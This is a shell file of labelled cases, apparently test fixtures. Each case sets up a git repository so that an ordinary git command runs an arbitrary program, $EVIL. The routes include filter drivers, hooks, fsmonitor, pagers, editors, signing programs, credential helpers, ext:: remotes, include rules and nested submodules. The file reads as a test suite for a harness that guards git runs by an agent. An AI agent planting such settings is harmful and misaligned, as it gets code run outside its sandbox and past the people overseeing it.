# Scripts by which an agent makes git start a program, $EVIL. Each follows its name.
# The functions are for all of them.

# filter FILE: names the filter in a file of settings, for all files of the repository.
filter() {
	git config -f "$1" filter.x.clean "$EVIL"
	git config -f "$1" filter.x.smudge "$EVIL"
	echo '* filter=x' >.git/info/attributes
}

# filter_sub: names the filter in the settings of the submodule.
filter_sub() {
	git config -f .git/modules/sub/config filter.x.clean "$EVIL"
	git config -f .git/modules/sub/config filter.x.smudge "$EVIL"
	echo '* filter=x' >.git/modules/sub/info/attributes
}

# missing URL: removes objects that a merge needs, and says where to fetch them.
missing() {
	git config protocol.allow always
	git config protocol.ext.allow always
	git config remote.o.url "$1"
	git config remote.o.promisor true
	git config remote.o.partialCloneFilter blob:none
	git config core.repositoryFormatVersion 1
	git config extensions.partialClone o
	for id in $(git rev-parse topic:kept side:more); do
		rm -f ".git/objects/$(echo "$id" | cut -c1-2)/$(echo "$id" | cut -c3-)"
	done
}

# signed: gives the branches commits with a signature.
signed() {
	git config gpg.program "$EVIL"
	sign='s/^committer.*/&\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----/'
	id=$(git cat-file commit topic | sed "$sign" | git hash-object -t commit -w --stdin)
	git update-ref refs/heads/topic "$id"
	git update-ref refs/heads/side "$id"
}

# hooks FOLDER: writes hooks.
hooks() {
	for event in pre-commit post-commit commit-msg post-checkout reference-transaction post-index-change; do
		cp "$EVIL" "$1/$event"
	done
}

== filter
filter .git/config
== filter in the tree
filter .git/config
mv .git/info/attributes .gitattributes
== filter process
git config filter.x.process "$EVIL"
echo '* filter=x' >.git/info/attributes
== filter with an odd name
git config filter.x=y.z.clean "$EVIL"
echo '* filter=x=y.z' >.git/info/attributes
== filter with a name that is no text
printf '[filter "\377"]\n clean = %s\n' "$EVIL" >>.git/config
printf '* filter=\377\n' >.git/info/attributes
== filter with attributes elsewhere
git config filter.x.clean "$EVIL"
git config core.attributesFile "$PWD/.git/attributes"
echo '* filter=x' >.git/attributes
== include
git config include.path more
filter .git/more
== include by folder
git config 'includeIf.gitdir:**/.git.path' more
filter .git/more
== include by branch
git config includeIf.onbranch:main.path more
filter .git/more
== include by remote
git config remote.o.url x:y
git config 'includeIf.hasconfig:remote.*.url:x:**.path' more
filter .git/more
== include in the folder of a worktree
git config 'includeIf.gitdir:**/worktrees/**.path' "$PWD/.git/more"
filter .git/more
== include on the branch of a run
git config 'includeIf.onbranch:ralph/**.path' "$PWD/.git/more"
filter .git/more
== settings of a worktree
git config extensions.worktreeConfig true
filter .git/config.worktree
== monitor
git config core.fsmonitor "$EVIL"
== diff
git config diff.external "$EVIL"
git config diff.x.command "$EVIL"
git config diff.x.textconv "$EVIL"
echo '* diff=x' >.gitattributes
== merge driver
git config merge.x.driver "$EVIL"
git config merge.default x
echo '* merge=x' >.gitattributes
== pager
git config core.pager "$EVIL"
git config pager.status "$EVIL"
git config pager.diff "$EVIL"
== editor
git config core.editor "$EVIL"
git config sequence.editor "$EVIL"
git config commit.verbose true
git config alias.status "!$EVIL"
== signature
git config commit.gpgSign true
git config gpg.program "$EVIL"
== signature by ssh
git config commit.gpgSign true
git config gpg.format ssh
git config gpg.ssh.program "$EVIL"
git config user.signingKey key::x
== signing key
git config commit.gpgSign true
git config gpg.format ssh
git config gpg.ssh.defaultKeyCommand "$EVIL"
== verified signature
git config merge.verifySignatures true
signed
== verified signature by options of a branch
git config branch.main.mergeOptions --verify-signatures
signed
== shown signature
git config log.showSignature true
signed
== missing object
missing "ext::$EVIL"
== missing object behind ssh
missing ssh://host/x
git config core.sshCommand "$EVIL"
== missing object behind a login
missing https://host.invalid/x
git config credential.helper "$EVIL"
git config core.askPass "$EVIL"
== missing object in a folder
missing "$PWD"
git config remote.o.uploadpack "$EVIL"
git config uploadpack.packObjectsHook "$EVIL"
== alternates
git config core.alternateRefsCommand "$EVIL"
echo "$PWD/.git/objects" >.git/objects/info/alternates
== trailer
git config trailer.x.command "$EVIL"
git config trailer.x.ifmissing add
== hooks
hooks .git/hooks
== hooks elsewhere
mkdir .git/other
hooks .git/other
git config core.hooksPath .git/other
== hooks in settings
for event in pre-commit post-commit post-checkout post-merge reference-transaction post-index-change; do
	git config "hook.$event.command" "$EVIL"
	git config "hook.$event.event" "$event"
done
== common folder
cp -r .git ../other
mv ../other .git/other
echo other >.git/commondir
git config -f .git/other/config filter.x.clean "$EVIL"
echo '* filter=x' >.git/other/info/attributes
== submodule
filter_sub
== submodule with a monitor
git config -f .git/modules/sub/config core.fsmonitor "$EVIL"
== submodule with an include
git config -f .git/modules/sub/config include.path more
filter .git/modules/sub/more
mv .git/info/attributes .git/modules/sub/info/attributes
== submodule with files elsewhere
mkdir .git/else
cp -r sub .git/else/sub
rm .git/else/sub/.git
cp -r .git/modules/sub .git/else/sub/.git
git config -f .git/else/sub/.git/config --unset core.worktree
git config -f .git/else/sub/.git/config filter.x.clean "$EVIL"
echo '* filter=x' >.git/else/sub/.git/info/attributes
echo two >.git/else/sub/kept
git -C sub update-index --add --cacheinfo "160000,$(git -C sub rev-parse HEAD),sub"
git config -f .git/modules/sub/config core.worktree "$PWD/.git/else"
== submodule with a long link
filter_sub
head -c 1000000 /dev/zero | tr '\0' '\n' >>sub/.git
== submodule that the index lacks
filter_sub
git rm -q --cached sub
for i in $(seq 600); do echo $i >f$i; done
== submodule that is checked out again
git config submodule.recurse true
filter_sub
== deep submodule
at=sub
for i in $(seq 20); do
	git init -q $at/n
	echo x >$at/n/f
	git -C $at/n add f
	git -C $at/n commit -qm x
	git -C $at add n
	at=$at/n
done
git -C $at config filter.x.clean "$EVIL"
echo '* filter=x' >$at/.git/info/attributes
touch -t 200101010000 $at/f
